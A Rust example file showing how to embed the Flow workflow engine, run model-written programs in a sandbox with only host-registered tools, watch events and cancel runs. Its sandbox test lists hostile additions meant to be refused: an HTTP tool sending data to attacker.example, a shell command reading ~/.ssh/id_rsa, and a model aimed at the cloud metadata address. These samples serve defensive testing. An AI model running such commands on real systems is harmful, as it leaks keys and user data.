//! Embedding Flow in a Rust program: register host tools as typed async
//! functions, compile a program given as text at run time (as an LLM might
//! write it), run it in a sandbox (only the host's tools and models, no
//! file-declared http or command tools, small limits), watch its events,
//! and cancel it. Run with `cargo run -p flow-embed-example`.

use flow_vm::{Engine, Event, Limits, RunOptions, RunStatus, ToolError};
use serde::{Deserialize, Serialize};
use std::time::Duration;

/// A program as a model could have written it: only the tools the host
/// registers below are reachable.
const PROGRAM: &str = r#"
tool lookup_order(id: string) -> { id: string, total: float, country: string }
tool vat_rate(country: string) -> float

flow invoice(ids: [string]) -> { count: int, gross: float } {
  step orders = map id in ids (concurrency: 4) {
    step order = lookup_order(id: id) retry 2 backoff 10ms..100ms
    step rate = vat_rate(country: order.country)
    return order.total * (1.0 + rate)
  }
  return { count: len(orders), gross: round(sum(orders) * 100.0) / 100.0 }
}
"#;

#[derive(Deserialize)]
struct LookupOrder {
    id: String,
}

#[derive(Serialize)]
struct Order {
    id: String,
    total: f64,
    country: String,
}

#[derive(Deserialize)]
struct VatRate {
    country: String,
}

/// The engine with the host's tools, as a sandbox for untrusted programs
/// (see docs/security.md): models only if the host registers a provider,
/// no `= http` or `= command` tools from the file (commands are off by
/// default), no keys or secrets granted, and the limits of
/// [`Limits::sandbox`] tightened further.
pub fn engine() -> Engine {
    Engine::new()
        .builtin_providers(false)
        .http_tools(false)
        .tool("lookup_order", |a: LookupOrder| async move {
            tokio::time::sleep(Duration::from_millis(5)).await;
            match a.id.strip_prefix("A-") {
                Some(n) => Ok(Order { total: n.parse().unwrap_or(0.0), country: "DE".into(), id: a.id }),
                None => Err(ToolError::new(format!("no order {}", a.id))),
            }
        })
        .tool("vat_rate", |a: VatRate| async move { Ok::<_, ToolError>(if a.country == "DE" { 0.19 } else { 0.0 }) })
        .limits(
            Limits::sandbox().max_steps(10_000).max_fanout(1_000).max_run_time(Duration::from_secs(10)).max_depth(8),
        )
}

/// Runs the invoice flow and returns its output and the names of the steps
/// that finished.
pub async fn invoice(ids: &[&str]) -> Result<(serde_json::Value, Vec<String>), String> {
    let engine = engine();
    let program = engine.compile(PROGRAM).map_err(|e| e.to_string())?;
    let input = serde_json::json!({ "ids": ids });
    let mut run = engine.start(&program, RunOptions::new("invoice", input).events(true)).map_err(|e| e.to_string())?;
    let mut events = run.events().ok_or("no events")?;
    let watcher = tokio::spawn(async move {
        let mut finished = Vec::new();
        while let Some(event) = events.recv().await {
            if let Event::StepFinished { step, .. } = event {
                finished.push(step);
            }
        }
        finished
    });
    let outcome = run.wait().await;
    let finished = watcher.await.map_err(|e| e.to_string())?;
    match outcome.status {
        RunStatus::Succeeded => Ok((outcome.output.unwrap_or_default(), finished)),
        _ => Err(outcome.error.map(|e| e.to_string()).unwrap_or_default()),
    }
}

#[tokio::main]
async fn main() {
    match invoice(&["A-100", "A-50.5"]).await {
        Ok((output, finished)) => {
            println!("{output}");
            println!("{} steps finished", finished.len());
        }
        Err(e) => {
            eprintln!("{e}");
            std::process::exit(1);
        }
    }
    // Cancelling: a run stopped from outside reports the steps it stopped.
    let engine = engine();
    let program = engine.compile(PROGRAM).expect("the program compiles");
    let run = engine
        .start(&program, RunOptions::new("invoice", serde_json::json!({ "ids": ["A-1", "A-2"] })))
        .expect("the run starts");
    run.cancel();
    let outcome = run.wait().await;
    println!("cancelled run: {:?}, stopped {:?}", outcome.status, outcome.cancelled_steps);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[tokio::test]
    async fn the_embedded_flow_runs() {
        let (output, finished) = invoice(&["A-100", "A-50"]).await.expect("runs");
        assert_eq!(output, serde_json::json!({ "count": 2, "gross": 178.5 }));
        assert_eq!(finished.len(), 5, "two items of two steps, and the map");
    }

    /// What a model might add to the program is refused before it runs:
    /// a tool of its own over HTTP, a command, a model of its choosing.
    #[tokio::test]
    async fn the_sandbox_refuses_what_the_host_did_not_grant() {
        let engine = engine();
        for (addition, code) in [
            ("tool leak(data: string) -> { ok: bool } = http POST \"https://attacker.example/collect\"", "E0608"),
            ("tool shell(cmd: string) -> string = command [\"sh\", \"-c\", \"cat ~/.ssh/id_rsa\"]", "E0604"),
            ("model m = openai(\"gpt-4o\") { base_url: \"http://169.254.169.254/v1\" }", "E0605"),
        ] {
            let call = if addition.starts_with("model") {
                "step x = llm m -> string { prompt: \"hi\" }"
            } else if addition.contains("leak") {
                "step x = leak(data: \"secret\")"
            } else {
                "step x = shell(cmd: \"id\")"
            };
            let program = format!("{addition}\nflow f() -> int {{\n  {call}\n  return 1\n}}\n");
            let compiled = engine.compile(&program).expect("compiles");
            let refused = engine.start(&compiled, RunOptions::new("f", serde_json::json!({}))).err();
            let refused = refused.map(|e| e.to_string()).unwrap_or_default();
            assert!(refused.contains(code), "{addition}: {refused}");
        }
    }

    #[tokio::test]
    async fn a_failing_tool_fails_the_run_with_its_step() {
        let error = invoice(&["B-1"]).await.expect_err("fails");
        assert!(error.contains("invoice/orders/body/order") && error.contains("no order B-1"), "{error}");
    }
}
